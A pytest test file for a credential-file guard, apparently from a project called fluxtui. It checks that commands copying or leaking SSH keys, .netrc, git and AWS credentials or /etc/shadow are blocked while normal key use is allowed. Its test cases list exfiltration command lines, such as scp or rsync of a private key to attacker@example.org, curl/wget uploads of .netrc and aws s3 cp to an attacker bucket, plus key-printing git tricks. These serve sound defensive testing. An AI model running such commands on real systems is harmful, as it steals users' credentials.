"""Hole 3 of issue 9: no general-purpose file readers on the default allow lists.

Each form that prints, copies or sends a named credential is refused, by a real run on a
temporary home where no remote end is needed, and by the decision for the exact command line
where one is (no sshd on the test machine); ssh-keygen -y, ssh authenticating with a key and
git over ssh keep their allowance. On the old lists git, scp, sftp, rsync, curl and wget were
allowed with no argument limits, and `git diff --no-index /dev/null KEY` printed the key."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from fluxtui.config import GuardConfig, load_config
from fluxtui.events import ProcessKey
from fluxtui.guard.access_rules import RuleBook, RulesFile, evaluate
from fluxtui.guard.catalogue import CatalogueError, build_catalogue
from fluxtui.guard.identity import ExeKey, ExeVerification, ProcessInfo
from tests.guard_support import (
    Home,
    guard_config,
    make_home,
    require_guard_kernel,
    run,
    running_guard,
)
from tests.kernel import require

REPO = Path(__file__).resolve().parents[1]
KEY = "/home/u/.ssh/id_ed25519"
NETRC = "/home/u/.netrc"
EPERM = b"Operation not permitted"


def _allowed(group_name: str, argv: list[str], tmp_path: Path) -> bool | None:
    config = GuardConfig(homes=["/nonexistent"])
    group = build_catalogue(config).group(group_name)
    assert group is not None
    exe = argv[0]
    proc = ProcessInfo(key=ProcessKey(42, 7), exe=exe, exe_key=ExeKey(1, 2, 3, 4, 5),
                       comm="x", uid=1000, euid=1000, user="u", ppid=1, parent_exe="/bin/bash",
                       cmdline=tuple(argv), env_flags=())
    verified = ExeVerification(path=exe, key=ExeKey(1, 2, 3, 4, 5), sha256="ab" * 32,
                               package="pkg", manager="dpkg", package_match=True,
                               system_dir=True, problems=())
    book = RuleBook(RulesFile(tmp_path / "rules.yml"))
    return evaluate(group, proc, verified, (), book, now=0.0).allow


@pytest.mark.parametrize(("group", "argv"), [
    ("ssh-keys", ["/usr/bin/git", "diff", "--no-index", "/dev/null", KEY]),
    ("ssh-keys", ["/usr/bin/git", "hash-object", "-w", KEY]),
    ("ssh-keys", ["/usr/bin/scp", KEY, "attacker@example.org:"]),
    ("ssh-keys", ["/usr/bin/sftp", "-b", "/tmp/put-the-key", "attacker@example.org"]),
    ("ssh-keys", ["/usr/bin/rsync", KEY, "attacker@example.org:"]),
    ("ssh-keys", ["/usr/bin/ssh", "-F", KEY, "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh", f"-F{KEY}", "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh", "-vF", KEY, "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh", "-o", f"Include={KEY}", "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh", f"-oinclude {KEY}", "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh", "-o", "AddKeysToAgent=yes", "-o", "IdentityAgent=/tmp/s",
                  "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh", "-I", "/tmp/evil.so", "example.org"]),
    ("ssh-keys", ["/usr/bin/ssh-add", KEY]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-i", "-m", "PEM", "-f", KEY]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-D", "/tmp/evil.so"]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-R", "example.org", "-f", KEY]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-F", "-----BEGIN", "-f", KEY]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-Hf", KEY]),
    # rewrite the key to the -f path, looked up again after the prompt (a swapped symlink)
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-p", "-f", "/tmp/link"]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-qpf", "/tmp/link", "-N", ""]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-c", "-C", "x", "-f", "/tmp/link"]),
    ("git-credentials", ["/usr/lib/git-core/git", "credential-store", "get"]),
    ("git-credentials", ["/usr/bin/git", "credential", "fill"]),
    ("netrc", ["/usr/bin/curl", f"file://{NETRC}"]),
    ("netrc", ["/usr/bin/curl", "-T", NETRC, "http://example.org/"]),
    ("netrc", ["/usr/bin/wget", f"--post-file={NETRC}", "http://example.org/"]),
    ("netrc", ["/usr/bin/git", "diff", "--no-index", "/dev/null", NETRC]),
    ("aws", ["/usr/bin/aws", "s3", "cp", "/home/u/.aws/credentials", "s3://attacker/"]),
    ("shadow", ["/usr/bin/sudo", "-e", "/etc/shadow"]),
    ("shadow", ["sudoedit", "/etc/shadow"]),
    ("shadow", ["/usr/sbin/sshd", "-T", "-f", "/etc/shadow"]),
])
def test_forms_that_print_copy_or_send_a_named_file_are_not_allowed(
        group: str, argv: list[str], tmp_path: Path) -> None:
    if argv[0] == "sudoedit":  # argv[0] as sudo sees it; the executable is sudo
        argv = ["/usr/bin/sudo", *argv[1:]]
        assert _allowed(group, argv, tmp_path) is True  # sanity: sudo itself is listed
        argv = ["sudoedit", *argv[1:]]
        config = GuardConfig(homes=["/nonexistent"])
        shadow = build_catalogue(config).group("shadow")
        assert shadow is not None
        assert shadow.allowed_program("/usr/bin/sudo", 0, 0, "", tuple(argv)) is None
        return
    assert _allowed(group, argv, tmp_path) is not True


@pytest.mark.parametrize(("group", "argv"), [
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-y", "-f", KEY]),
    ("ssh-keys", ["/usr/bin/ssh-keygen", "-lf", KEY]),
    ("ssh-keys", ["/usr/bin/ssh", "-i", KEY, "-p", "2222", "u@127.0.0.1"]),
    # git over ssh: what git runs (GIT_PROTOCOL sent as an environment variable)
    ("ssh-keys", ["/usr/bin/ssh", "-o", "SendEnv=GIT_PROTOCOL", "git@example.org",
                  "git-upload-pack '/repo.git'"]),
    ("ssh-keys", ["/usr/bin/ssh", "-v", "-o", "ForwardAgent=yes", "example.org"]),
    ("shadow", ["/usr/bin/sudo", "-u", "root", "true"]),
    ("shadow", ["/usr/sbin/sshd", "-D"]),
])
def test_reading_a_credential_to_use_it_stays_allowed(group: str, argv: list[str],
                                                      tmp_path: Path) -> None:
    assert _allowed(group, argv, tmp_path) is True


def test_config_yml_lists_the_same_programs_as_the_defaults() -> None:
    shipped = load_config(REPO / "config.yml").guard
    assert shipped.groups == GuardConfig().groups
    assert shipped.system_files == GuardConfig().system_files


def test_a_bad_deny_args_pattern_is_one_clear_message() -> None:
    from dataclasses import replace

    from fluxtui.config import AllowedProgram, CredentialGroup
    config = replace(GuardConfig(), homes=["/nonexistent"], system_files=[], groups=[
        CredentialGroup("k", "T1552.004", [".k"], [AllowedProgram("/usr/bin/ssh",
                                                                  deny_args=["(unclosed"])])])
    with pytest.raises(CatalogueError, match=r"guard.groups\[0\].allowed\[0\].deny_args\[0\]"):
        build_catalogue(config)


# --- real runs -------------------------------------------------------------------------------


@pytest.fixture
def home(tmp_path: Path) -> Home:
    require_guard_kernel()
    made = make_home(tmp_path)
    (made.root / ".netrc").write_text("machine example.org login u password not-a-secret\n")
    return made


@pytest.mark.kernel
def test_real_runs_of_the_named_file_forms_get_eperm(home: Home, tmp_path: Path) -> None:
    require(shutil.which("git") is not None, "git missing")
    require(shutil.which("curl") is not None, "curl missing")
    netrc = home.root / ".netrc"
    secret = home.key.read_bytes().splitlines()[1]
    repo = tmp_path / "repo"
    assert run(["git", "init", "-q", str(repo)]).returncode == 0
    with running_guard(guard_config(home, tmp_path / "state")):
        diff = run(["git", "diff", "--no-index", "/dev/null", str(home.key)])
        assert secret not in diff.stdout and EPERM in diff.stderr, diff
        hashed = run(["git", "-C", str(repo), "hash-object", "-w", str(home.key)])
        assert hashed.returncode != 0 and EPERM in hashed.stderr, hashed
        curl = run(["curl", "-sS", f"file://{netrc}"])
        assert b"not-a-secret" not in curl.stdout and curl.returncode != 0, curl
        ssh = run(["ssh", "-F", str(home.key), "-o", "BatchMode=yes", "example.invalid"])
        assert secret not in ssh.stdout + ssh.stderr and EPERM in ssh.stderr, ssh
        keygen = run(["ssh-keygen", "-y", "-f", str(home.key)])
        assert keygen.returncode == 0 and home.pub.read_bytes().split(b" ")[1] in keygen.stdout
